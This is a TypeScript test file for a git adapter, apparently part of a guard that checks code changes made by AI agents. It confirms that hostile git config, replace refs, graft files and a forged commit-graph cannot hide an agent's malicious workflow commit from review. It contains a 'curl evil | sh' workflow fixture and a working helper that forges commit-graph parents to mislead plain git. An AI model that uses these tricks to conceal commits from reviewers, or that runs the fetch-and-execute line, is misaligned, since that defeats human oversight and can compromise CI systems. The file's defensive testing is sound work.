// The fixed environment and arguments of every git process: hostile repository files and config,
// and whatever an earlier step put into the environment, cannot change what git reports or make it
// run code, write files or leak the job's secrets.

import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdir, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { computeChangeSet } from '../../../src/adapters/git/change-set.js';
import { commitInfo } from '../../../src/adapters/git/history.js';
import { mergeBase } from '../../../src/adapters/git/reads.js';
import { makeTempDir, runGit, type TestRepo } from '../../support/git-repo.js';
import { byPath, changes, gitTestRepos } from '../../support/git-fixtures.js';

const { cleanups, repoWithBase } = gitTestRepos();

describe('attack: repository files and config', () => {
  test('hostile repository config and environment cannot change the change set', async () => {
    const repo = await repoWithBase({ '.github/workflows/deploy.yml': 'on: push\n', 'docs/a.md': 'a\n' });
    await repo.mv('.github/workflows/deploy.yml', 'docs/deploy.md');
    await repo.write('docs/é.md', 'x\n');
    await repo.commit('change');
    const expected = await changes(repo);
    for (const [k, v] of [
      ['diff.renames', 'false'],
      ['diff.relative', 'true'],
      ['diff.noprefix', 'true'],
      ['core.quotePath', 'true'],
      ['diff.renameLimit', '1'],
      ['diff.external', 'false'],
      ['core.abbrev', '7'],
      ['color.diff', 'always'],
      // Case-insensitive and decomposing file systems' settings change nothing in a tree diff.
      ['core.ignorecase', 'true'],
      ['core.precomposeunicode', 'true'],
      ['core.commitGraph', 'true'],
    ] as const) {
      await repo.git('config', k, v);
    }
    expect(await changes(repo)).toEqual(expected);
    // From a subdirectory, paths are still repository-relative and complete.
    expect((await computeChangeSet(join(repo.dir, 'docs'), 'main', 'agent')).entries).toEqual(expected);
    // An inherited GIT_DIR pointing at another repository is ignored.
    const other = await repoWithBase();
    const saved = process.env.GIT_DIR;
    process.env.GIT_DIR = join(other.dir, '.git');
    try {
      expect(await changes(repo)).toEqual(expected);
    } finally {
      if (saved === undefined) delete process.env.GIT_DIR;
      else process.env.GIT_DIR = saved;
    }
  });

  test('replace refs cannot swap the head commit for a harmless one', async () => {
    const repo = await repoWithBase();
    await repo.write('.github/workflows/evil.yml', 'on: push\n');
    const evil = await repo.commit('evil');
    await repo.checkout('decoy', { create: true, from: 'main' });
    await repo.write('docs/ok.md', 'ok\n');
    const decoy = await repo.commit('decoy');
    await repo.git('replace', evil, decoy);
    // Plain git now shows the decoy for `agent`...
    expect(await repo.git('diff', '--name-only', 'main', 'agent')).toBe('docs/ok.md');
    // ...the adapter does not.
    expect((await changes(repo)).map((e) => e.path)).toEqual(['.github/workflows/evil.yml']);
  });

  /**
   * main: b0 - b1 - b2 (base tip); agent: b0 - evil (new workflow) - docs (head). The true merge base is b0.
   * Returns the commits; the repository has `main` checked out.
   */
  async function movedBase(): Promise<{ repo: TestRepo; b1: string; b2: string; evil: string; head: string; b0: string }> {
    const repo = await repoWithBase();
    const b0 = await repo.rev('main');
    await repo.write('.github/workflows/evil.yml', 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl evil | sh" } ] } }\n');
    const evil = await repo.commit('evil workflow');
    await repo.write('docs/notes.md', 'notes\n');
    const head = await repo.commit('docs only');
    await repo.checkout('main');
    await repo.write('b1.txt', '1\n');
    const b1 = await repo.commit('b1');
    await repo.write('b2.txt', '2\n');
    const b2 = await repo.commit('b2');
    return { repo, b0, b1, b2, evil, head };
  }

  test('a graft file in the checkout (info/grafts) cannot move the merge base onto the agent\'s commit', async () => {
    const { repo, b0, b2, evil, head } = await movedBase();
    // One line written by an earlier step: "the base tip's parent is the agent's evil commit".
    writeFileSync(join(repo.dir, '.git', 'info', 'grafts'), `${b2} ${evil}\n`);
    // Plain git believes it (even with --no-replace-objects): the merge base is the evil commit, and
    // the diff from it shows only the docs.
    expect((await repo.run(['--no-replace-objects', 'merge-base', 'main', 'agent'])).stdout.toString().trim()).toBe(evil);
    // Without its own graft file the adapter would too: the change set would be docs/notes.md alone.
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.mergeBase).toBe(b0);
    expect(cs.head).toBe(head);
    expect(byPath(cs.entries).map((e) => e.path)).toEqual(['.github/workflows/evil.yml', 'docs/notes.md']);
    expect(cs.warnings).toEqual([]);
    expect(await mergeBase(repo.dir, 'main', 'agent')).toBe(b0);
    // Approver independence reads the same history: the evil commit is in the range.
    expect((await commitInfo(repo.dir, { base: 'main', head: 'agent' })).commits.map((c) => c.sha)).toContain(evil);
  });

  test('a forged commit-graph file (parents cached outside the commits) cannot move the merge base', async () => {
    const { repo, b0, b1, evil } = await movedBase();
    await repo.git('commit-graph', 'write', '--reachable');
    forgeCommitGraphParent(join(repo.dir, '.git', 'objects', 'info', 'commit-graph'), b1, evil);
    // Plain git trusts the cache: b1's parent is now the evil commit, and so is the merge base.
    expect((await repo.git('merge-base', 'main', 'agent')).trim()).toBe(evil);
    const cs = await computeChangeSet(repo.dir, 'main', 'agent');
    expect(cs.mergeBase).toBe(b0);
    expect(byPath(cs.entries).map((e) => e.path)).toEqual(['.github/workflows/evil.yml', 'docs/notes.md']);
  });
});

test('the test repository helper isolates git from the machine config', async () => {
  const dir = makeTempDir('agent-guard-iso-');
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  await mkdir(join(dir, 'r'));
  const r = await runGit(join(dir, 'r'), ['config', '--show-origin', '--list'], { allowFailure: true });
  expect(r.stdout.toString()).not.toMatch(/file:(\/etc\/gitconfig|.*\.gitconfig)/);
});

/**
 * Rewrite, in a commit-graph file, the first parent of `commit` to `parent` (both must be in the
 * graph). Format: 8-byte header (byte 6: chunk count), a table of (4-byte id, 8-byte offset) entries,
 * OIDL (sorted object ids) and CDAT (per commit: tree id, parent 1 index, parent 2 index, 8 bytes of
 * generation and date). git does not check the file's trailing hash when it loads it.
 */
function forgeCommitGraphParent(file: string, commit: string, parent: string): void {
  const data = readFileSync(file);
  const chunks = new Map<string, number>();
  for (let i = 0; i <= data[6]!; i++) chunks.set(data.toString('latin1', 8 + 12 * i, 12 + 12 * i), Number(data.readBigUInt64BE(12 + 12 * i)));
  const oidl = chunks.get('OIDL')!;
  const cdat = chunks.get('CDAT')!;
  const ids: string[] = [];
  for (let off = oidl; off < cdat; off += 20) ids.push(data.toString('hex', off, off + 20));
  const at = ids.indexOf(commit);
  const to = ids.indexOf(parent);
  if (at < 0 || to < 0) throw new Error('commit or parent not in the commit-graph');
  data.writeUInt32BE(to, cdat + at * 36 + 20);
  chmodSync(file, 0o644);
  writeFileSync(file, data);
}

